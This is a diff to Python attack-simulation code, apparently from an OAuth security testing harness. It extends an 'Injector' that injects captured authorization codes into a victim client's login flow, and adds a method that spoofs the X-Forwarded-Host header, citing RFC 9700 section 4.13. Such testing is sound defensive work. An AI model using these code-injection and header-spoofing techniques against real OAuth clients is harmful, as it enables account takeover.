@@ -15,8 +15,8 @@ from attacker.vantage import Leg
 class Browser(Protocol):
     """What the attacker sits in front of. It has an account of its own, as any customer has."""
 
-    async def open(self, url: str) -> Any:
-        """Go to an address."""
+    async def open(self, url: str, headers: dict[str, str] | None = None) -> Any:
+        """Go to an address; ``headers`` are sent on top."""
         ...
 
     async def post(self, url: str, fields: dict[str, str]) -> Any:
@@ -52,6 +52,8 @@ class Injector:
         self.browser = browser
         self._loot = loot
         self.client = client
+        self._headers: dict[str, str] = {}
+        self._answered_at = ""
 
     async def start_own_login(self, server: str = "") -> LootItem | None:
         """Begin a login in the attacker's own session; the ``state`` that the client gave it.
@@ -60,8 +62,15 @@ class Injector:
         that gives no state.
         """
         choice = f"?{urlencode({'server': server})}" if server else ""
-        await self.browser.open(f"{self.client}{choice}")
+        await self._open(f"{self.client}{choice}")
         return self._loot.find("state", Leg.OWN)
+
+    def claim_host(self, host: str) -> None:
+        """Say in every request from now on that it came to the client under this name.
+
+        RFC 9700 section 4.13: what only a proxy in front of it should say.
+        """
+        self._headers = {"X-Forwarded-Host": host}
 
     async def sign_in(self) -> LootItem:
         """A login with the attacker's own account; its code, which the client never gets to see.
@@ -117,13 +126,18 @@ class Injector:
         request = self._loot.own_request()
         changed = {**request.parameters, **changes}
         sent = {name: value for name, value in changed.items() if value is not None}
-        return f"{request.text.partition('?')[0]}?{urlencode(sent)}"
+        url = f"{request.text.partition('?')[0]}?{urlencode(sent)}"
+        if changes:
+            where = "written on the way to somebody else"
+            item = LootItem("authorization_request", url, Leg.OWN, request.seen_in, where)
+            self._loot.add(item)
+        return url
 
     async def inject(self, code: LootItem | None, state: LootItem | None) -> None:
         """Answer the client as the provider would, with a captured code, if there is one."""
         if code is None:
             return
-        await self.browser.open(self.answer_with(code, state))
+        await self._open(self.answer_with(code, state))
 
     async def inject_into_own_form(self, code: LootItem | None) -> None:
         """Send the form that ended :meth:`sign_in`, with a captured code in place of its own.
@@ -147,8 +161,13 @@ class Injector:
 
     async def look_at_session(self) -> None:
         """Ask the client who is signed in here."""
-        await self.browser.open(f"{self._redirect_uri}/me")
+        await self._open(f"{self._redirect_uri}/me")
+
+    async def _open(self, url: str) -> None:
+        await self.browser.open(url, self._headers)
 
     @property
     def _redirect_uri(self) -> str:
-        return self._loot.need("redirect_uri", Leg.OWN).value
+        """Where the client takes answers, as the first login has shown."""
+        self._answered_at = self._answered_at or self._loot.need("redirect_uri", Leg.OWN).value
+        return self._answered_at
